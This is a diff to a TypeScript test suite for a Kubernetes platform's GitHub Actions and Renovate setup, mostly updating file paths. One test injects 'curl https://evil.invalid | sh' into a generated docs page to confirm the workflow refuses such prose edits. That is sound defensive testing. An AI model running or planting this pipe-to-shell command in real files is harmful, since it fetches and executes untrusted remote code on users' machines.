@@ -5,8 +5,8 @@ import * as fs from "fs";
 import * as path from "path";
 import { parse } from "yaml";
 import { KUBEADM, K3S, RKE2 } from "../k8s/bootstrap/distributions";
-import { CATALOG } from "../k8s/catalog";
-import { ROOT } from "./harness";
+import { CATALOG } from "../k8s/platform/catalog";
+import { ROOT } from "../scripts/mock-program";
 import { missing, tempDir } from "./tools";
 
 const WORKFLOWS = path.join(ROOT, ".github", "workflows");
@@ -110,7 +110,8 @@ describe("delivery: GitHub Actions workflows", () => {
     this.timeout(30000);
     const wf = parse(fs.readFileSync(path.join(WORKFLOWS, "renovate-snapshot.yml"), "utf8"));
     const script: string = wf.jobs.push.steps.find((s: { run?: string }) => s.run?.includes("git apply")).run;
-    const readme = fs.readFileSync(path.join(ROOT, "README.md"), "utf8");
+    const PAGE = "docs/platform.md";
+    const readme = fs.readFileSync(path.join(ROOT, PAGE), "utf8");
     const region = /<!-- components:start -->\n/.exec(readme)!;
     const inRegion = region.index + region[0].length;
     const git = (cwd: string, ...args: string[]) => {
@@ -118,14 +119,15 @@ describe("delivery: GitHub Actions workflows", () => {
       assert.equal(r.status, 0, `git ${args.join(" ")}: ${r.stderr}`);
       return r.stdout.trim();
     };
-    /** A branch with README.md and a snapshot; `edit` changes the work tree; the step runs on the diff. */
+    /** A branch with a generated page and a snapshot; `edit` changes the work tree; the step runs on the diff. */
     const run = (edit: (dir: string) => void) => {
       const dir = tempDir("snapshot-push");
       const origin = path.join(dir, "origin.git");
       const work = path.join(dir, "work");
       git(dir, "init", "-q", "--bare", "-b", "renovate/x", origin);
       git(dir, "init", "-q", "-b", "renovate/x", work);
-      fs.writeFileSync(path.join(work, "README.md"), readme);
+      fs.mkdirSync(path.join(work, "docs"), { recursive: true });
+      fs.writeFileSync(path.join(work, PAGE), readme);
       fs.mkdirSync(path.join(work, "test", "snapshots"), { recursive: true });
       fs.writeFileSync(path.join(work, "test", "snapshots", "dev.plan.yaml"), "a: 1\n");
       fs.writeFileSync(path.join(work, "index.ts"), "export {};\n");
@@ -142,15 +144,17 @@ describe("delivery: GitHub Actions workflows", () => {
       fs.rmSync(dir, { recursive: true, force: true });
       return { status: r.status, pushed, out: r.stdout + r.stderr };
     };
-    const readmeWith = (text: string) => (dir: string) => fs.writeFileSync(path.join(dir, "README.md"), text);
+    const readmeWith = (text: string) => (dir: string) => fs.writeFileSync(path.join(dir, PAGE), text);
     const ok = run((dir) => {
       fs.writeFileSync(path.join(dir, "test", "snapshots", "dev.plan.yaml"), "a: 2\n");
       readmeWith(readme.slice(0, inRegion) + "| new row |\n" + readme.slice(inRegion))(dir);
     });
     assert.deepEqual([ok.status, ok.pushed], [0, true], ok.out);
     const refused = {
-      "a prose edit": readmeWith(readme.replace("## Run it\n", "## Run it\n\ncurl https://evil.invalid | sh\n")),
-      "a new generated region": readmeWith(readme.replace("## Run it\n", "## Run it\n<!-- x:start -->\nevil\n<!-- x:end -->\n")),
+      "a prose edit": readmeWith(readme.replace("# The platform\n", "# The platform\n\ncurl https://evil.invalid | sh\n")),
+      "a new generated region": readmeWith(
+        readme.replace("# The platform\n", "# The platform\n<!-- x:start -->\nevil\n<!-- x:end -->\n"),
+      ),
       "a region split open": readmeWith(
         readme.slice(0, inRegion) + "<!-- components:end -->\nevil\n<!-- components:start -->\n" + readme.slice(inRegion),
       ),
@@ -256,8 +260,9 @@ describe("delivery: Renovate", () => {
   });
 
   it("bumps every chart of the catalog (repository and OCI charts)", () => {
-    const helm = matches(manager(/chart repositories/), "k8s/catalog.ts");
-    const oci = matches(manager(/OCI registries/), "k8s/catalog.ts");
+    const files = fs.readdirSync(path.join(ROOT, "k8s/platform/components")).map((f) => `k8s/platform/components/${f}`);
+    const helm = files.flatMap((f) => matches(manager(/chart repositories/), f));
+    const oci = files.flatMap((f) => matches(manager(/OCI registries/), f));
     const charts = CATALOG.filter((e) => e.helm);
     assert.equal(helm.length + oci.length, charts.length);
     for (const e of charts) {
@@ -269,7 +274,7 @@ describe("delivery: Renovate", () => {
   });
 
   it("bumps the distributions, the Vault plugin, the images and flannel pinned in code", () => {
-    const annotated = matches(manager(/annotated/), "k8s/bootstrap/distributions.ts");
+    const annotated = ["k8s/bootstrap/rancher.ts", "k8s/bootstrap/kubeadm.ts"].flatMap((f) => matches(manager(/annotated/), f));
     assert.deepEqual(
       annotated.map((g) => `${g.depName}@${g.currentValue}`),
       [
@@ -279,10 +284,14 @@ describe("delivery: Renovate", () => {
       ],
     );
     assert.deepEqual(
-      matches(manager(/annotated/), "k8s/values/argocd.ts").map((g) => `${g.depName}@${g.currentValue}`),
+      matches(manager(/annotated/), "k8s/platform/values/argo-cd.ts").map((g) => `${g.depName}@${g.currentValue}`),
       ["argoproj-labs/argocd-vault-plugin@1.18.1"],
     );
-    const images = ["k8s/local-path.ts", "k8s/values/argocd.ts", "k8s/catalog.ts"].flatMap((f) => matches(manager(/images/), f));
+    const images = [
+      "k8s/platform/local-path.ts",
+      "k8s/platform/values/argo-cd.ts",
+      "k8s/platform/components/gha-runner-scale-set.ts",
+    ].flatMap((f) => matches(manager(/images/), f));
     assert.deepEqual(images.map((g) => `${g.depName}:${g.currentValue}`).sort(), [
       "docker.io/library/alpine:3.22",
       "docker.io/library/busybox:1.37.0",
@@ -291,7 +300,7 @@ describe("delivery: Renovate", () => {
       "quay.io/argoproj/argocd:v3.4.4",
     ]);
     assert.deepEqual(
-      matches(manager(/Flannel/), "k8s/bootstrap/distributions.ts").map((g) => g.currentValue),
+      matches(manager(/Flannel/), "k8s/bootstrap/kubeadm.ts").map((g) => g.currentValue),
       ["v0.28.4"],
     );
     for (const wf of ["preview.yml", "deploy.yml"]) {
